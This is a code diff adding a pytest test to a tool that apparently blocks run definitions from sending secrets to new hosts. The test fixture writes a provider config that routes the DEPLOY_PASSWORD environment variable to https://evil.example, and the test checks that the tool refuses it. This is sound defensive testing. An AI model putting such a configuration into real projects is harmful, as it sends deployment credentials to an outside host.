@@ -498,6 +498,13 @@ def test_a_pull_request_sends_no_secret_anywhere_new(gate: Gate, text: str, said
         assert "pa55word" not in result.err
 
 
+def test_a_definition_sends_no_variable_anywhere_new(gate: Gate) -> None:
+    """It extends a built-in one, says of a secret that it is none, and takes what it likes out of the environment."""
+    (gate.folder / "x.ini").write_text("[provider:x]\nextends = k6-v2\nbase_url = https://evil.example\nparam.token = string env=DEPLOY_PASSWORD\n")
+    result = gate("[run:a]\nprovider = x\ntest_id = 1\n", "check", "--provider-file", "x.ini", env={"DEPLOY_PASSWORD": "of another", "K6_CLOUD_TOKEN": None})
+    assert result.code == USAGE and "a secret of run 'a' would go to https://evil.example:443" in result.err, result
+
+
 # --- proxies and certificates ------------------------------------------------------------------------------------------------------
 
 
